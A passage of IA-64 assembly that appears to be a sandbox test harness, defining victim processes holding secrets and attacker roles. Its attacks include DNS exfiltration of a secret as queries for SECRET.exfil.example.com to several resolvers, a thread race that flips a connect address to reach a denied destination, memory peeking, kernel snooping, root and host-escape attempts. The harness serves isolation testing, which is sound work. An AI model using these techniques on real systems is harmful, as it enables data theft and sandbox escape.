        cmp.lt p6, p0 = 3, loc5
        ;;
(p6)    br.cond.sptk .Lask_answered
        PUTS ": no answer\n"
        br.cond.sptk .Lask_close
        ;;
.Lask_answered:
        movl r14 = dnsreply + 3
        ;;
        ld1 r14 = [r14]
        ;;
        and loc2 = 15, r14              // rcode
        PUTS ": answered, rcode "
        PUTN loc2
        movl r14 = dnsreply + 7
        mov loc2 = 0
        cmp.lt p6, p0 = 7, loc5
        ;;
(p6)    ld1 loc2 = [r14]                // answers (the low byte of ANCOUNT)
        PUTS ", "
        PUTN loc2
        PUTS " answers\n"
.Lask_close:
        mov out0 = loc4
        SYSCALL SYS_close
.Lask_ret:
        LEAVE
        .endp ask

// prefixed(s, prefix) -> r8 = 1 when s starts with prefix
        .proc prefixed
prefixed:
        alloc r2 = ar.pfs, 2, 0, 0, 0
        mov r14 = in0
        mov r16 = in1
        mov r8 = 1
        ;;
.Lpx_loop:
        ld1 r17 = [r14], 1
        ld1 r18 = [r16], 1
        ;;
        cmp.eq p6, p0 = 0, r18          // the prefix ended: a match
        cmp.ne p7, p0 = r17, r18
        ;;
(p6)    br.ret.sptk.many b0
(p7)    mov r8 = 0
(p7)    br.ret.sptk.many b0
        br.cond.sptk .Lpx_loop
        ;;
        .endp prefixed

// nameserver() -> r8 = the first "nameserver" address of /etc/resolv.conf (NUL-ended, in
// pathbuf), or 0
        .proc nameserver
nameserver:
        ENTER 0, 4, 3
        movl out0 = s_resolv_conf
        mov out1 = O_RDONLY
        mov out2 = 0
        SYSCALL SYS_open
        cmp.ne p6, p0 = 0, r10
        mov loc2 = r8
        mov r8 = 0
        ;;
(p6)    br.cond.dpnt .Lns_ret
        mov out0 = loc2
        movl out1 = pathbuf
        movl out2 = PATH_MAX - 1
        SYSCALL SYS_read
        cmp.ne p6, p0 = 0, r10
        movl loc3 = pathbuf
        mov r16 = r8
        ;;
(p6)    mov r16 = 0
        ;;
        add r14 = loc3, r16
        ;;
        st1 [r14] = r0
        mov out0 = loc2
        SYSCALL SYS_close
.Lns_find:
        ld1 r14 = [loc3]
        ;;
        cmp.eq p6, p0 = 0, r14
        ;;
(p6)    mov r8 = 0
(p6)    br.cond.dpnt .Lns_ret
        mov out0 = loc3
        movl out1 = s_nameserver
        CALL prefixed
        cmp.ne p6, p0 = 0, r8
        ;;
(p6)    br.cond.dpnt .Lns_found
        adds loc3 = 1, loc3
        br.cond.sptk .Lns_find
        ;;
.Lns_found:
        adds loc3 = 10, loc3            // after "nameserver"
        ;;
.Lns_space:
        ld1 r14 = [loc3]
        ;;
        cmp.eq p6, p0 = ' ', r14
        cmp.eq p7, p0 = 9, r14
        ;;
(p6)    adds loc3 = 1, loc3
(p6)    br.cond.sptk .Lns_space
(p7)    adds loc3 = 1, loc3
(p7)    br.cond.sptk .Lns_space
        ;;
        mov r8 = loc3
        mov r16 = loc3
        ;;
.Lns_token:
        ld1 r14 = [r16]
        ;;
        cmp.ltu p6, p0 = ' ', r14       // a printable byte: part of the address
        ;;
(p6)    adds r16 = 1, r16
(p6)    br.cond.sptk .Lns_token
        ;;
        st1 [r16] = r0
.Lns_ret:
        LEAVE
        .endp nameserver

// ask_all(text, port): ask(text, port) with the query in qbuf (length in qlen)
        .proc ask_all
ask_all:
        ENTER 2, 2, 4
        movl r14 = qlen
        ;;
        ld8 out3 = [r14]
        mov out0 = in0
        mov out1 = in1
        movl out2 = qbuf
        CALL ask
        LEAVE
        .endp ask_all

// dns_exfil(secret, port, extra) -> r8 = 0: DNS queries for SECRET.exfil.example.com to
// umlab's answerer, the gateway, the host's loopback, a public resolver, and each of extra at
// 53 and port; then where the C library's lookup (attacks.c's getaddrinfo) sends it: the
// nameserver of /etc/resolv.conf, or 127.0.0.1 without one (this program has no C library)
        .proc dns_exfil
dns_exfil:
        ENTER 3, 4, 2
        // the name: at most 60 bytes of the secret, then the suffix
        movl r14 = namebuf
        mov r16 = in0
        mov r17 = 60
        ;;
.Lde_copy:
        ld1 r18 = [r16], 1
        ;;
        cmp.ne p6, p0 = 0, r18
        ;;
(p6)    cmp.ne p6, p0 = 0, r17
        ;;
(p6)    st1 [r14] = r18, 1
(p6)    adds r17 = -1, r17
(p6)    br.cond.sptk .Lde_copy
        ;;
        movl r16 = s_exfil_suffix
        ;;
.Lde_suffix:
        ld1 r18 = [r16], 1
        ;;
        st1 [r14] = r18, 1
        cmp.ne p6, p0 = 0, r18
        ;;
(p6)    br.cond.sptk .Lde_suffix
        ;;
        movl out0 = qbuf
        movl out1 = namebuf
        CALL dns_query
        movl r14 = qlen
        ;;
        st8 [r14] = r8
        movl out0 = s_dns_addr
        mov out1 = 53
        CALL ask_all
        movl out0 = s_gateway
        mov out1 = 53
        CALL ask_all
        movl out0 = s_lo4
        mov out1 = 53
        CALL ask_all
        movl out0 = s_public1
        mov out1 = 53
        CALL ask_all
        movl out0 = s_dns_addr
        mov out1 = in1
        CALL ask_all
        movl out0 = s_gateway
        mov out1 = in1
        CALL ask_all
        mov loc2 = in2
        ;;
.Lde_extra:
        ld8 loc3 = [loc2], 8
        ;;
        cmp.eq p6, p0 = 0, loc3
        ;;
(p6)    br.cond.dpnt .Lde_resolver
        mov out0 = loc3
        mov out1 = 53
        CALL ask_all
        mov out0 = loc3
        mov out1 = in1
        CALL ask_all
        br.cond.sptk .Lde_extra
        ;;
.Lde_resolver:
        CALL nameserver
        cmp.eq p6, p0 = 0, r8
        mov out0 = r8
        mov out1 = 53
        ;;
(p6)    br.cond.dpnt .Lde_none
        CALL ask_all
        PUTS "resolver: asked /etc/resolv.conf's nameserver\n"
        br.cond.sptk .Lde_done
        ;;
.Lde_none:                              // glibc's resolver then asks 127.0.0.1
        movl out0 = s_lo4
        mov out1 = 53
        CALL ask_all
        PUTS "resolver: no nameserver in /etc/resolv.conf, asked 127.0.0.1 as the C library does\n"
.Lde_done:
        mov r8 = 0
        LEAVE
        .endp dns_exfil

// toctou(denied, denied_port, allowed, allowed_port) -> r8: 400 connects through a sockaddr
// that a second thread keeps switching between the allowed and the denied destination.
// The thread is a clone(CLONE_VM | CLONE_THREAD | ...) with its own stack: IA-64 Linux's
// clone starts the memory stack (r12) and the register backing store (ar.bspstore) both at the
// stack address, one growing down and the other up, so the address is the middle of a 64 KiB
// mapping. The thread's code keeps its state in a fresh register frame (allocated before it
// reads anything) and in memory.
        .proc toctou
toctou:
        ENTER 4, 10, 6
        mov out0 = in0
        mov out1 = in1
        movl out2 = race_denied
        CALL sockaddr_for
        mov loc2 = r9                   // the sockaddr's length
        mov out0 = in2
        mov out1 = in3
        movl out2 = race_allowed
        CALL sockaddr_for
        movl out0 = race_addr
        movl out1 = race_allowed
        CALL copy32
        movl r14 = race_allowed
        ;;
        ld2 loc3 = [r14]                // the family
        mov out0 = 0
        movl out1 = 65536
        mov out2 = 3                    // PROT_READ | PROT_WRITE
        mov out3 = 0x22                 // MAP_PRIVATE | MAP_ANONYMOUS
        mov out4 = -1
        mov out5 = 0
        SYSCALL SYS_mmap
        cmp.ne p6, p0 = 0, r10
        mov loc4 = r8
        ;;
(p6)    br.cond.dpnt .Lto_fail
        movl out0 = CLONE_THREAD_FLAGS
        movl r14 = 32768
        ;;
        add out1 = loc4, r14            // the thread's stack and backing store
        mov out2 = 0
        mov out3 = 0
        mov out4 = 0
        SYSCALL SYS_clone
        cmp.ne p6, p0 = 0, r10
        cmp.eq p7, p0 = 0, r8
        mov loc4 = r8
        ;;
(p6)    br.cond.dpnt .Lto_fail
(p7)    br.call.sptk.many b0 = flipper  // the new thread: does not return
        ;;
        mov loc5 = 0                    // connected
        mov loc6 = 0                    // unreachable
        mov loc7 = 0                    // other
        mov loc8 = 400
        ;;
.Lto_loop:
        mov out0 = loc3
        mov out1 = SOCK_STREAM
        mov out2 = 0
        SYSCALL SYS_socket
        cmp.ne p6, p0 = 0, r10
        mov loc9 = r8
        ;;
(p6)    mov loc9 = -1
        ;;
        mov out0 = loc9
        movl out1 = race_addr
        mov out2 = loc2
        SYSCALL SYS_connect
        cmp.eq p6, p7 = 0, r10
        ;;
(p7)    cmp.eq.unc p8, p9 = ENETUNREACH, r8
        ;;
(p6)    adds loc5 = 1, loc5
(p8)    adds loc6 = 1, loc6
(p9)    adds loc7 = 1, loc7
        mov out0 = loc9
        SYSCALL SYS_close
        SYSCALL SYS_sched_yield
        adds loc8 = -1, loc8
        ;;
        cmp.ne p6, p0 = 0, loc8
        ;;
(p6)    br.cond.sptk .Lto_loop
        ;;
        movl r14 = race_done
        mov r16 = 1
        ;;
        st8 [r14] = r16
        ;;
.Lto_join:                              // until the thread has left
        movl r14 = flipper_done
        ;;
        ld8 r14 = [r14]
        ;;
        cmp.ne p6, p0 = 0, r14
        ;;
(p6)    br.cond.dpnt .Lto_report
        SYSCALL SYS_sched_yield
        br.cond.sptk .Lto_join
        ;;
.Lto_report:
        PUTS "toctou: "
        PUTN loc5
        PUTS " connected, "
        PUTN loc6
        PUTS " unreachable, "
        PUTN loc7
        PUTS " other\n"
        mov r8 = 0
        LEAVE
.Lto_fail:
        PUTS "toctou: no second thread: "
        PUTE loc4
        PUTC 10
        mov r8 = 1
        LEAVE
        .endp toctou

// copy32(dst, src): 32 bytes, as four doublewords
        .proc copy32
copy32:
        alloc r2 = ar.pfs, 2, 0, 0, 0
        mov r14 = in1
        mov r16 = in0
        ;;
        ld8 r17 = [r14], 8
        ;;
        ld8 r18 = [r14], 8
        st8 [r16] = r17, 8
        ;;
        ld8 r17 = [r14], 8
        st8 [r16] = r18, 8
        ;;
        ld8 r18 = [r14]
        st8 [r16] = r17, 8
        ;;
        st8 [r16] = r18
        br.ret.sptk.many b0
        ;;
        .endp copy32

// flipper(): the second thread of toctou. Until race_done, race_addr is the denied
// destination for a while, then the allowed one for a while, with a sched_yield after each
// (the threads take turns, so connects meet both). Sets flipper_done and exits the thread.
        .proc flipper
flipper:
        alloc loc0 = ar.pfs, 0, 5, 2, 0
        movl loc1 = race_addr
        movl loc2 = race_denied
        movl loc3 = race_allowed
        movl loc4 = race_done
        ;;
.Lfl_round:
        ld8 r14 = [loc4]
        ;;
        cmp.ne p6, p0 = 0, r14
        ;;
(p6)    br.cond.dpnt .Lfl_exit
        mov out0 = loc1
        mov out1 = loc2
        CALL copy32
        CALL spin
        SYSCALL SYS_sched_yield
        mov out0 = loc1
        mov out1 = loc3
        CALL copy32
        CALL spin
        SYSCALL SYS_sched_yield
        br.cond.sptk .Lfl_round
        ;;
.Lfl_exit:
        movl r14 = flipper_done
        mov r16 = 1
        ;;
        st8 [r14] = r16
        mov out0 = 0
        SYSCALL SYS_exit                // this thread only
        break.m 0
        ;;
        .endp flipper

// spin(): 2000 turns of an empty loop
        .proc spin
spin:
        alloc r2 = ar.pfs, 0, 0, 0, 0
        mov r14 = 2000
        ;;
.Lsp_loop:
        adds r14 = -1, r14
        ;;
        cmp.ne p6, p0 = 0, r14
        ;;
(p6)    br.cond.sptk .Lsp_loop
        ;;
        br.ret.sptk.many b0
        ;;
        .endp spin

// ---- main -------------------------------------------------------------------------------------

        .global _start
        .proc _start
_start:
        alloc loc0 = ar.pfs, 0, 12, 6, 0
        adds r14 = 16, sp
        ;;
        ld8 loc2 = [r14], 8             // argc
        ;;
        mov loc3 = r14                  // argv
        shladd r16 = loc2, 3, r14
        ld8 r17 = [r14]                 // argv[0]
        movl r18 = self_path
        movl r19 = envp_ptr
        ;;
        adds r16 = 8, r16               // envp
        st8 [r18] = r17
        ;;
        st8 [r19] = r16
        cmp.lt p6, p0 = 1, loc2
        adds r14 = 8, loc3
        ;;
(p6)    ld8 loc4 = [r14]                // the role
(p6)    br.cond.sptk .Lroles
        ;;
        movl r14 = outfd
        mov r16 = 2
        ;;
        st8 [r14] = r16
        PUTS "usage: "
        ARGV out0, 0
        CALL out_str
        PUTS " ROLE [ARGS]\n"
        mov out0 = 2
        CALL do_exit

.Lroles:
        // victims
        ROLE s_victim_pipe, 2, .Lvictim_pipe
        ROLE s_victim_file, 2, .Lvictim_file
        ROLE s_victim_priv, 3, .Lvictim_private
        // scenarios
        ROLE s_pipe_snoop, 2, .Lpipe_snoop
        ROLE s_file_snoop, 2, .Lfile_snoop
        ROLE s_private_peek, 2, .Lprivate_peek
        ROLE s_become_root, 2, .Lbecome_root
        // attackers
        ROLE s_kernel_read, 1, .Lkernel_read
        ROLE s_a_kernel_read, 1, .Lkernel_read
        ROLE s_a_snoop_pipe, 1, .Lsnoop_pipe
        ROLE s_a_snoop_io, 1, .Lsnoop_io
        ROLE s_a_peek, 4, .Lpeek
        ROLE s_a_root, 2, .Lroot
        ROLE s_host_escape, 2, .Lhost_escape
        ROLE s_outlive, 1, .Loutlive
        ROLE s_net_reach, 3, .Lnet_reach
        ROLE s_net_bind, 2, .Lnet_bind
        ROLE s_dns_exfil, 3, .Ldns_exfil
        ROLE s_toctou, 5, .Ltoctou
        movl r14 = outfd
        mov r16 = 2
        ;;
        st8 [r14] = r16
        ARGV out0, 0
        CALL out_str
        PUTS ": unknown role "
        PUTR loc4
        PUTC 10
        mov out0 = 2
        CALL do_exit

// ---- victims ----
.Lvictim_pipe:
        ARGV loc5, 2
        SYSCALL SYS_pipe
        cmp.ne p6, p0 = 0, r10
        mov loc6 = r8                   // read end
        mov loc7 = r9                   // write end
        ;;
(p6)    br.cond.dpnt .Lexit1
        CALL fork
        cmp.eq p6, p0 = 0, r8
        mov loc8 = r8
        ;;
(p6)    br.cond.dpnt .Lvp_reader
        mov out0 = loc6
        SYSCALL SYS_close
        mov out0 = loc5
        CALL strlen
        mov out0 = loc7
        mov out1 = loc5
        mov out2 = r8
        SYSCALL SYS_write
        cmp.ne p6, p0 = 0, r10
        ;;
(p6)    br.cond.dpnt .Lexit1
        mov out0 = loc7
        SYSCALL SYS_close
        mov out0 = loc8
        CALL waitpid
        br.cond.sptk .Lexit0
        ;;
.Lvp_reader:
        mov out0 = loc7
        SYSCALL SYS_close
.Lvp_read:
        mov out0 = loc6
        movl out1 = readbuf
        mov out2 = 256
        SYSCALL SYS_read
        cmp.ne p6, p0 = 0, r10
        cmp.eq p7, p0 = 0, r8
        ;;
(p6)    br.cond.dpnt .Lexit0
(p7)    br.cond.dpnt .Lexit0
        br.cond.sptk .Lvp_read
        ;;

.Lvictim_file:
        // a block of a diary, the secret in the middle of it
        ARGV loc5, 2
        movl out0 = block
        mov out1 = '.'
        mov out2 = 1024
        CALL fill
        mov out0 = loc5
        CALL strlen
        mov r14 = 512
        mov r16 = r8
        ;;
        cmp.ltu p6, p0 = r14, r16
        ;;
(p6)    mov r16 = r14
        movl r17 = block + 512
        mov r18 = loc5
        ;;
.Lvf_copy:
        cmp.ne p6, p0 = 0, r16
        ;;
(p6)    ld1 r19 = [r18], 1
(p6)    adds r16 = -1, r16
        ;;
(p6)    st1 [r17] = r19, 1
(p6)    br.cond.sptk .Lvf_copy
        ;;
        movl out0 = s_diary
        mov out1 = O_WRONLY_CREAT_TRUNC
        mov out2 = MODE_0600
        SYSCALL SYS_open
        cmp.ne p6, p0 = 0, r10
        mov loc6 = r8
        ;;
(p6)    br.cond.dpnt .Lexit1
        mov out0 = loc6
        movl out1 = block
        mov out2 = 1024
        SYSCALL SYS_write
        cmp.ne p6, p0 = 0, r10
        ;;
(p6)    br.cond.dpnt .Lexit1
        mov out0 = loc6
        SYSCALL SYS_close
        br.cond.sptk .Lexit0
        ;;

.Lvictim_private:
        // The secret moves from argv (copied by execve, never through a kernel buffer) into
        // private heap memory (brk); argv is scrubbed; only its address is reported.
        ARGV loc5, 2
        mov out0 = loc5
        CALL strlen
        mov loc6 = r8                   // len
        mov out0 = 0
        SYSCALL SYS_brk
        mov loc7 = r8                   // the heap copy
        ;;
        add out0 = loc7, loc6
        ;;
        adds out0 = 4096, out0
        SYSCALL SYS_brk
        add r14 = loc7, loc6
        ;;
        cmp.geu p6, p0 = r14, r8        // the break did not move far enough
        ;;
(p6)    br.cond.dpnt .Lexit1
        mov r16 = loc5
        mov r17 = loc7
        adds r18 = 1, loc6
        ;;
.Lvv_copy:
        ld1 r19 = [r16], 1
        adds r18 = -1, r18
        ;;
        st1 [r17] = r19, 1
        cmp.ne p6, p0 = 0, r18
        ;;
(p6)    br.cond.sptk .Lvv_copy
        ;;
        mov out0 = loc5
        mov out1 = 'x'
        mov out2 = loc6
        CALL fill
        ARGV out0, 3
        CALL parse_u64
        mov loc8 = r8                   // the ready descriptor
        movl out0 = msgbuf
        mov out1 = loc7
        CALL fmt_u64
        mov out0 = loc8
        movl out1 = msgbuf
        mov out2 = r8
        SYSCALL SYS_write
        cmp.ne p6, p0 = 0, r10
        ;;
(p6)    br.cond.dpnt .Lexit1
        mov out0 = loc8
        SYSCALL SYS_close
        mov loc9 = 20                   // stay alive for the attacker: 20 x 100 ms
        ;;
.Lvv_sleep:
        movl out0 = tdeci
        mov out1 = 0
        SYSCALL SYS_nanosleep
        adds loc9 = -1, loc9
        ;;
        cmp.ne p6, p0 = 0, loc9
        ;;
(p6)    br.cond.sptk .Lvv_sleep
        ;;
        ld1 r14 = [loc7]
        ;;
        cmp.eq p6, p7 = 0, r14
        ;;
(p6)    mov out0 = 1
(p7)    mov out0 = 0
        CALL do_exit

// ---- scenarios ----
.Lpipe_snoop:
        ARGV loc5, 2
        movl out0 = s_attacks
        movl out1 = s_victim_pipe
        mov out2 = loc5
        mov out3 = 0
        mov out4 = 0
        CALL set_args
        mov out0 = r8
        CALL spawn
        mov out0 = r8
        CALL waitpid
        movl out0 = s_attacks
        movl out1 = s_a_snoop_pipe
        mov out2 = 0
        mov out3 = 0
        mov out4 = 0
        br.cond.sptk .Lattacker
        ;;

.Lfile_snoop:
        ARGV loc5, 2
        movl out0 = s_attacks
        movl out1 = s_victim_file
        mov out2 = loc5
        mov out3 = 0
        mov out4 = 0
        CALL set_args
        mov out0 = r8
        CALL spawn
        mov out0 = r8
        CALL waitpid
        movl out0 = s_attacks
        movl out1 = s_a_snoop_io
        mov out2 = 0
        mov out3 = 0
        mov out4 = 0
        br.cond.sptk .Lattacker
        ;;

.Lprivate_peek:
        ARGV loc5, 2
        SYSCALL SYS_pipe
        cmp.ne p6, p0 = 0, r10
        mov loc6 = r8                   // ready[0]
        mov loc7 = r9                   // ready[1]
        ;;
(p6)    br.cond.dpnt .Lexit1
        movl out0 = fdstr
        mov out1 = loc7
        CALL fmt_u64
        mov out0 = loc5
        CALL strlen
        mov loc8 = r8                   // len
        movl out0 = lenstr
        mov out1 = r8
        CALL fmt_u64
        movl out0 = s_attacks
        movl out1 = s_victim_priv
        mov out2 = loc5
        movl out3 = fdstr
        mov out4 = 0
        CALL set_args
        mov out0 = r8
        CALL spawn
        mov loc9 = r8                   // the victim
        mov out0 = loc7
        SYSCALL SYS_close
        mov out0 = loc6
        movl out1 = msgbuf
        mov out2 = 63
        SYSCALL SYS_read
        cmp.ne p6, p0 = 0, r10
        movl r14 = msgbuf
        mov r16 = r8
        ;;
(p6)    mov r16 = 0
        ;;
        add r14 = r14, r16
        ;;
        st1 [r14] = r0
        mov out0 = loc5                 // the scenario is not the one attacked
        mov out1 = 'x'
        mov out2 = loc8
        CALL fill
        movl out0 = pidstr
        mov out1 = loc9
        CALL fmt_u64
        movl out0 = s_attacks
        movl out1 = s_a_peek
        movl out2 = pidstr
        movl out3 = msgbuf
        movl out4 = lenstr
        CALL set_args
        mov out0 = r8
        CALL run_attacker
        mov loc10 = r8
        mov out0 = loc9
        mov out1 = SIGKILL
        SYSCALL SYS_kill
        mov out0 = loc9
        CALL waitpid
        mov out0 = loc10
        CALL do_exit

.Lbecome_root:
        ARGV loc5, 2
        movl out0 = s_root_only
        mov out1 = O_WRONLY_CREAT_TRUNC
        mov out2 = MODE_0600
        SYSCALL SYS_open
        cmp.ne p6, p0 = 0, r10
        mov loc6 = r8
        ;;
(p6)    br.cond.dpnt .Lexit1
        mov out0 = loc5
        CALL strlen
        mov out0 = loc6
        mov out1 = loc5
        mov out2 = r8
        SYSCALL SYS_write
        cmp.ne p6, p0 = 0, r10
        ;;
(p6)    br.cond.dpnt .Lexit1
        mov out0 = loc6
        SYSCALL SYS_close
        movl out0 = s_attacks
        movl out1 = s_a_root
        movl out2 = s_root_only
        mov out3 = 0
        mov out4 = 0
        ;;
.Lattacker:                             // run the attacker whose argv is in out0..out4
        CALL set_args
        mov out0 = r8
        CALL run_attacker
        mov out0 = r8
        CALL do_exit

// ---- attackers ----
.Lkernel_read:
        mov out0 = OP_READ_HEADER
        movl out1 = s_read_kernel
        mov out2 = 0
        mov out3 = 0
        CALL guarded
        br.cond.sptk .Lexit0
        ;;
.Lsnoop_pipe:
        mov out0 = OP_SNOOP_PIPE
        movl out1 = s_scan_kernel
        mov out2 = 0
        mov out3 = 0
        CALL guarded
        br.cond.sptk .Lexit0
        ;;
.Lsnoop_io:
        mov out0 = OP_SNOOP_IO
        movl out1 = s_scan_kernel
        mov out2 = 0
        mov out3 = 0
        CALL guarded
        br.cond.sptk .Lexit0
        ;;
.Lpeek:
        ARGV out0, 2
        CALL parse_u64
        mov loc5 = r8                   // victim pid
        ARGV out0, 3
        CALL parse_u64
        mov loc6 = r8                   // address
        ARGV out0, 4
        CALL parse_u64
        mov loc7 = r8                   // length
        ;;
        mov out0 = loc5
        mov out1 = loc6
        mov out2 = loc7
        CALL attack_peek
        mov out0 = OP_PEEK_SAME
        movl out1 = s_same_addr
        mov out2 = loc6
        mov out3 = loc7
        CALL guarded
        mov out0 = OP_SNOOP_IO
        movl out1 = s_scan_kernel
        mov out2 = 0
        mov out3 = 0
        CALL guarded
        br.cond.sptk .Lexit0
        ;;
.Lroot:
        ARGV out0, 2
        CALL attack_root
        mov out0 = r8
        CALL do_exit
.Lhost_escape:
        ARGV out0, 2
        CALL host_escape
        mov out0 = r8
        CALL do_exit
.Loutlive:
        CALL outlive
        mov out0 = r8
        CALL do_exit

.Lnet_reach:                            // net-reach PORT SECRET ADDR...
        ARGV out0, 2
        CALL parse_u64
        mov loc5 = r8
        ARGV loc6, 3
        mov out0 = loc5
        mov out1 = loc6
        adds out2 = 32, loc3            // argv + 4
        CALL net_reach
        mov out0 = r8
        CALL do_exit
.Lnet_bind:                             // net-bind PORT
        ARGV out0, 2
        CALL parse_u64
        mov out0 = r8
        CALL net_bind
        mov out0 = r8
        CALL do_exit
.Ldns_exfil:                            // dns-exfil SECRET PORT ADDR...
        ARGV out0, 3
        CALL parse_u64
        mov loc5 = r8
        ARGV loc6, 2
        mov out0 = loc6
        mov out1 = loc5
        adds out2 = 32, loc3
        CALL dns_exfil
        mov out0 = r8
        CALL do_exit
.Ltoctou:                               // toctou DENIED-ADDR DENIED-PORT ALLOWED-ADDR ALLOWED-PORT
        ARGV out0, 3
        CALL parse_u64
        mov loc5 = r8
        ARGV out0, 5
        CALL parse_u64
        mov loc6 = r8
        ARGV loc7, 2
        ARGV loc8, 4
        mov out0 = loc7
        mov out1 = loc5
        mov out2 = loc8
        mov out3 = loc6
        CALL toctou
        mov out0 = r8
        CALL do_exit

.Lexit0:
        mov out0 = 0
        CALL do_exit
.Lexit1:
        mov out0 = 1
        CALL do_exit
        .endp _start
